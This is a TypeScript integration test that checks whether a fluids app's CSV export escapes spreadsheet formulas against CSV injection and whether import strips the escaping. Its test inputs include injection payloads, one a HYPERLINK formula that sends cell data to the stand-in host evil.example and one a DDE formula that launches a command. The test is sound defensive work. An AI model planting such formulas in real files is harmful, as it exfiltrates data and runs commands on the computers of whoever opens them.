/**
 * CSV exports are safe to open in a spreadsheet: a cell that starts with = + - @ tab or carriage
 * return would be run as a formula, so it is written with a leading apostrophe (OWASP Foundation,
 * "CSV Injection"); the import reads the apostrophe back off, so export → import keeps the text.
 */
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type TestAgent from 'supertest/lib/agent';
import { demoFluidInputs } from '../../scripts/lib/seed/demo-fluids';
import { createTestContext, type TestContext } from '../integration/helpers/test-app';
import { createTestUser, signedInAgent } from '../integration/helpers/users';

const FORMULA_START = /^[=+\-@\t\r]/;

let ctx: TestContext;
let engineer: TestAgent;
beforeAll(async () => {
  ctx = createTestContext();
  engineer = await signedInAgent(ctx.app, await createTestUser(ctx.db, { role: 'engineer' }));
});
afterAll(async () => {
  await ctx.close();
});

describe('fluid CSV export', () => {
  it('writes no cell a spreadsheet would run, and reads the same text back on import', async () => {
    const tag = `inj${Date.now()}`;
    const hostile = [
      `=HYPERLINK("http://evil.example/?x="&A1,"${tag} a")`,
      `+${tag} b+1`,
      `-${tag} c-1+cmd|' /C calc'!A0`,
      `@SUM(1+1) ${tag} d`,
    ];
    const base = demoFluidInputs()[0];
    for (const name of hostile) {
      const created = await engineer.post('/api/fluids').send({ ...base, name, notes: `=1+2 notes of ${tag}\tand a tab` });
      expect(created.status, JSON.stringify(created.body)).toBe(201);
    }

    const exported = await engineer.get('/api/fluids/export.csv');
    expect(exported.status).toBe(200);
    const parsed = Papa.parse<string[]>(exported.text, { skipEmptyLines: true });
    const header = parsed.data[0];
    const rows = parsed.data.slice(1).filter((cells) => cells.some((cell) => cell.includes(tag)));
    expect(rows).toHaveLength(hostile.length);
    for (const cells of parsed.data.slice(1)) {
      for (const [index, cell] of cells.entries()) expect({ column: header[index], cell }).not.toEqual({ column: header[index], cell: expect.stringMatching(FORMULA_START) });
    }
    const nameIndex = header.indexOf('name');
    expect(rows.map((cells) => cells[nameIndex]).sort()).toEqual(hostile.map((name) => `'${name}`).sort());

    // Round trip: the import reads the apostrophe back off.
    const csv = Papa.unparse({ fields: header, data: rows.map((cells) => cells.map((cell, i) => (i === nameIndex ? cell.replace(tag, `${tag}r`) : cell))) }, { newline: '\r\n' });
    const preview = await engineer.post('/api/fluids/import/preview').send({ csv });
    expect(preview.status).toBe(200);
    expect(preview.body.ok).toBe(true);
    expect(preview.body.rows.map((row: { name: string }) => row.name).sort()).toEqual(hostile.map((name) => name.replace(tag, `${tag}r`)).sort());
  });
});
